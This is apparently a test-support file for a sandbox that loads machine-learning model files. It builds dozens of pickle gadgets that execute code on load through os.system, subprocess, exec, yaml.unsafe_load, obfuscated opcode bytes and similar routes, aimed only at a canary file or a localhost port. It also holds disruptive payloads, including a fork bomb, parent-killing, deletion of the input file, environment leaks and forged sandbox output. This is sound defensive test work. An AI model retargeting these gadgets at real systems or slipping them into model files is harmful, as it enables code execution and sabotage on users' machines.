"""Which ways are there to make the loading of a model run code? Built at test time, each aimed at a canary.

Every gadget of ``reaching`` leaves a mark when it is loaded without a sandbox: a file or folder of its own, or a
connection. A test loads each of them so first, since a gadget that could do nothing anyway would prove nothing.
"""

from __future__ import annotations

import marshal
import struct
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from tests.audits.pickle_opcodes import Built, Call, Raw, call, method, named, written

O_CREATE_WRITE = 0o101


@dataclass(frozen=True)
class Aim:
    """What a gadget aims at: a folder of its own anyone may write to, a TCP port and a socket's path on this machine."""

    folder: Path
    port: int
    socket: str

    @property
    def file(self) -> str:
        """The file that the gadget would make."""
        return str(self.folder / "canary")

    @property
    def command(self) -> str:
        """A line for the shell that makes it."""
        return f"/bin/touch {self.file}"

    @property
    def line(self) -> list[str]:
        """A program and its arguments that make it."""
        return ["/bin/touch", self.file]

    @property
    def source(self) -> str:
        """Python that makes it, by a file, a program and both connections, whichever works."""
        return (
            "import os, socket\n"
            f"for act in (lambda: open({self.file!r}, 'w').close(), lambda: os.system({self.command!r}),\n"
            f"            lambda: socket.create_connection(('127.0.0.1', {self.port}), 2).close(),\n"
            f"            lambda: socket.socket(socket.AF_UNIX).connect({self.socket!r})):\n"
            "    try: act()\n"
            "    except OSError: pass\n"
        )


def reaching(aim: Aim) -> dict[str, Any]:
    """Return every gadget by name: values for ``written``; each reaches its aim where nothing confines it."""
    return {**_commands(aim), **_code(aim), **_indirect(aim), **_files(aim), **_connections(aim), **_opcodes(aim)}


def _commands(aim: Aim) -> dict[str, Any]:
    shell = ["/bin/sh", "-c", aim.command]
    return {
        "os.system": call("os.system", aim.command),
        "posix.system": call("posix.system", aim.command),
        "os.popen": method(call("os.popen", aim.command), "read"),
        "subprocess.Popen": method(call("subprocess.Popen", shell), "wait"),
        "subprocess.call": call("subprocess.call", shell),
        "subprocess.check_call": call("subprocess.check_call", shell),
        "subprocess.check_output": call("subprocess.check_output", shell),
        "subprocess.run": call("subprocess.run", shell),
        "subprocess.getoutput": call("subprocess.getoutput", aim.command),
        "subprocess.getstatusoutput": call("subprocess.getstatusoutput", aim.command),
        "distutils.spawn": call("distutils.spawn.spawn", aim.line),
        "multiprocessing.spawnv": call(
            "multiprocessing.util.spawnv_passfds", b"/bin/touch", [part.encode() for part in aim.line], ()
        ),
        "billiard.spawnv": call("billiard.compat.spawnv_passfds", b"/bin/touch", [p.encode() for p in aim.line], ()),
        "loky.fork_exec": call("joblib.externals.loky.backend.fork_exec.fork_exec", aim.line, []),
        "django.popen_wrapper": call("django.core.management.utils.popen_wrapper", aim.line),
        "django.call_command": call("django.core.management.call_command", "startproject", "canary", str(aim.folder)),
        "os.posix_spawn": call("os.posix_spawn", "/bin/touch", aim.line, {}),
        "os.spawnv": call("os.spawnv", 0, "/bin/touch", aim.line),
        "os.spawnlp": call("os.spawnlp", 0, "touch", "touch", aim.file),
        "os.execv": call("os.execv", "/bin/touch", aim.line),
        "pty.spawn": call("pty.spawn", shell),
        "webbrowser": method(call("webbrowser.get", f"/bin/touch {aim.file} %s &"), "open", aim.file),
        "ctypes.system": method(call("ctypes.CDLL", None), "system", aim.command.encode()),
    }


def _code(aim: Aim) -> dict[str, Any]:
    bare = compile(aim.source, "gadget", "exec")
    interpreter = call("code.InteractiveInterpreter")
    module = str(aim.folder.parent / "payload.py")
    return {
        "exec": call("builtins.exec", aim.source),
        "eval": call("builtins.eval", f"exec({aim.source!r})"),
        "compile": call("builtins.exec", call("builtins.compile", aim.source, "gadget", "exec")),
        "marshal": call("builtins.exec", call("marshal.loads", marshal.dumps(bare))),
        "types.FunctionType": Call(call("types.FunctionType", call("marshal.loads", marshal.dumps(bare)), {}), ()),
        "ctypes.PyRun": method(named("ctypes.pythonapi"), "PyRun_SimpleString", aim.source.encode()),
        "code.runsource": method(interpreter, "runsource", aim.source, "gadget", "exec"),
        "code.runcode": method(interpreter, "runcode", call("codeop.compile_command", f"exec({aim.source!r})")),
        "codeop": call("builtins.eval", call("codeop.compile_command", f"exec({aim.source!r})")),
        "timeit": call("timeit.timeit", f"exec({aim.source!r})", "pass", named("time.perf_counter"), 1),
        "cProfile": call("cProfile.run", aim.source),
        "profile": call("profile.run", aim.source),
        "bdb": method(call("trace.Trace", False, False), "run", aim.source),
        "runpy.run_path": call("runpy.run_path", module, {"aim": aim.file}),
        "runpy._run_code": call("runpy._run_code", call("builtins.compile", aim.source, "gadget", "exec"), {}),
        "importlib.loader": method(
            call("importlib.machinery.SourceFileLoader", "payload", str(aim.folder / "canary.py")), "set_data", aim.file, b"x"
        ),
        "yaml": call("yaml.unsafe_load", f"!!python/object/apply:os.system ['{aim.command}']"),
        "nested-pickle": call("pickle.loads", written(call("os.system", aim.command), 2)),
        "nested-joblib": call("joblib.load", call("io.BytesIO", written(call("os.system", aim.command), 2))),
        "logging.config": call(
            "logging.config.dictConfig",
            {"version": 1, "formatters": {"f": {"()": "os.system", "command": aim.command}}},
        ),
    }  # fmt: skip


def _indirect(aim: Aim) -> dict[str, Any]:
    system, module = named("os.system"), call("builtins.__import__", "os")
    return {
        "__import__": method(module, "system", aim.command),
        "importlib.import_module": method(call("importlib.import_module", "os"), "system", aim.command),
        "pydoc.locate": Call(call("pydoc.locate", "os.system"), (aim.command,)),
        "pkgutil.resolve_name": Call(call("pkgutil.resolve_name", "os:system"), (aim.command,)),
        "django.import_string": Call(call("django.utils.module_loading.import_string", "os.system"), (aim.command,)),
        "operator.methodcaller": Call(call("operator.methodcaller", "system", aim.command), (module,)),
        "operator.attrgetter": Call(Call(call("operator.attrgetter", "system"), (module,)), (aim.command,)),
        "functools.partial": Call(call("functools.partial", system, aim.command), ()),
        "functools.reduce": Call(
            call("functools.reduce", named("builtins.getattr"), ["system"], module), (aim.command,)
        ),
        "map": call("builtins.list", call("builtins.map", system, [aim.command])),
        "filter": call("builtins.list", call("builtins.filter", system, [aim.command])),
        "starmap": call("builtins.list", call("itertools.starmap", system, [(aim.command,)])),
        "thread": method(call("threading.Thread", None, system, None, (aim.command,)), "run"),
        "atexit": call("builtins.list", [call("atexit.register", system, aim.command), call("atexit._run_exitfuncs")]),
        "finalize": Call(call("weakref.finalize", call("io.BytesIO"), system, aim.command), ()),
        "collections.defaultdict": method(
            call("collections.defaultdict", call("functools.partial", system, aim.command)), "__getitem__", "any"
        ),
    }


def _files(aim: Aim) -> dict[str, Any]:
    return {
        "open": call("builtins.open", aim.file, "w"),
        "_io.FileIO": call("_io.FileIO", aim.file, "w"),
        "os.open": call("os.open", aim.file, O_CREATE_WRITE),
        "os.mkdir": call("os.mkdir", aim.file),
        "os.symlink": call("os.symlink", "/nowhere", aim.file),
        "os.mkfifo": call("os.mkfifo", aim.file),
        "shutil.copyfile": call("shutil.copyfile", "/bin/true", aim.file),
        "pathlib.touch": method(call("pathlib.Path", aim.file), "touch"),
        "tempfile.mkstemp": call("tempfile.mkstemp", "x", "canary", str(aim.folder)),
        "zipfile": method(call("zipfile.ZipFile", aim.file, "w"), "close"),
        "numpy.save": call("numpy.save", aim.file, 1),
        "joblib.dump": call("joblib.dump", 1, aim.file),
        "logging.FileHandler": call("logging.FileHandler", aim.file),
    }


def _connections(aim: Aim) -> dict[str, Any]:
    address = ("127.0.0.1", aim.port)
    return {
        "socket.create_connection": call("socket.create_connection", address, 2),
        "socket.unix": method(call("socket.socket", 1, 1), "connect", aim.socket),
        "urllib": call("urllib.request.urlopen", f"http://127.0.0.1:{aim.port}/", None, 0.2),
        "http.client": method(call("http.client.HTTPConnection", *address), "connect"),
        "smtplib": call("smtplib.SMTP", *address, None, 0.2),
        "poplib": call("poplib.POP3", *address, 0.2),
        "logging.SocketHandler": method(call("logging.handlers.SocketHandler", *address), "createSocket"),
        "socket.connect_ex": method(call("socket.socket", 2, 1), "connect_ex", address),
    }


def _opcodes(aim: Aim) -> dict[str, Any]:
    """The same call by every opcode that can make one, and with its names hidden from a reader."""
    system = named("os.system")
    registered = call("copyreg.add_extension", "os", "system", 200)
    text, source = aim.command.encode(), aim.source.encode()
    hidden = (
        b"\x8c\x02os\x940\x8c\x06system\x940"
        + b"h\x00h\x01\x93"
        + b"X"
        + struct.pack("<I", len(text))
        + text
        + b"\x85R"
    )
    started = Built(call("code.InteractiveInterpreter", how="NEWOBJ"), {"locals": {}})
    return {
        "INST": call("os.system", aim.command, how="INST"),
        "OBJ": call("os.system", aim.command, how="OBJ"),
        "NEWOBJ-BUILD": method(started, "runcode", call("builtins.compile", aim.source, "gadget", "exec")),
        "BUILD-partial": Call(
            Built(call("functools.partial", named("builtins.print")), (system, (aim.command,), {}, {})), ()
        ),
        "EXT": call("builtins.list", [registered, Call(Raw(b"\x82\xc8"), (aim.command,))]),
        "memo-hidden": Raw(hidden),
        "dotted-name": Raw(
            b"\x8c\x08builtins\x8c\x0dexec.__call__\x93X" + struct.pack("<I", len(source)) + source + b"\x85R"
        ),
    }  # fmt: skip


def misbehaving() -> dict[str, Any]:
    """Return gadgets that reach nothing but harm the process that loads them, or try to lie about it."""
    forge = (
        "import os, stat, fcntl, pickle\n"
        "for h in range(3, 60):\n"
        "    try:\n"
        "        if stat.S_ISREG(os.fstat(h).st_mode) and fcntl.fcntl(h, fcntl.F_GETFL) & 3 == 2: os.pwrite(h, {}, 0)\n"
        "    except OSError: pass\n"
        "os._exit(0)"
    )
    return {
        "exit-0": call("os._exit", 0),
        "exit-7": call("os._exit", 7),
        "sys.exit": call("sys.exit", 0),
        "segfault": call("ctypes.string_at", 0),
        "abort": call("os.abort"),
        "kill-itself": call("os.kill", call("os.getpid"), 9),
        "kill-the-parent": call("os.kill", call("os.getppid"), 9),
        "sleep": call("time.sleep", 1_000_000),
        "spin": call("builtins.exec", "while True: pass"),
        "flood": call("builtins.exec", "while True: print('x' * 65536)"),
        "fork-bomb": call("builtins.exec", "import os\nwhile True: os.fork()"),
        "threads": call("builtins.exec", "import threading, time\nwhile True: threading.Thread(target=time.sleep, "
                                         "args=(60,), daemon=True).start()"),
        "64-GB": call("builtins.bytearray", 2**36),
        "recursion": call("builtins.exec", "def f(): f()\nimport sys; sys.setrecursionlimit(10**9)\nf()"),
        "delete-input": call("builtins.exec", "import os, sys\nos.unlink(sys.argv[-1])"),
        "env-and-clock": call("builtins.exec", "import os, time\nraise ValueError(f'{dict(os.environ)} {time.time()}')"),
        "answer-pickle": call("builtins.exec", forge.format("pickle.dumps({'done': True})")),
        "answer-nested": call("builtins.exec", forge.format("b'[' * 100000")),
        "answer-large": call("builtins.exec", forge.format("b' ' * (5 * 2**20)")),
        "answer-forged": call("builtins.exec", forge.format("b'{\"done\": true, \"libraries\": {\"a\": \"<b>\"}}'")),
        "memo-2-31": Raw(b"Nr\xff\xff\xff\x7f"),
        "text-2-62": Raw(b"\x8d" + struct.pack("<Q", 2**62)),
        "frame-lies": Raw(b"\x95" + struct.pack("<Q", 2**60) + b"N"),
        "laughs": Raw(b"N" + b"2\x86" * 60),
        "deep": Raw(b"(" * 400_000 + b"t" * 400_000),
    }  # fmt: skip
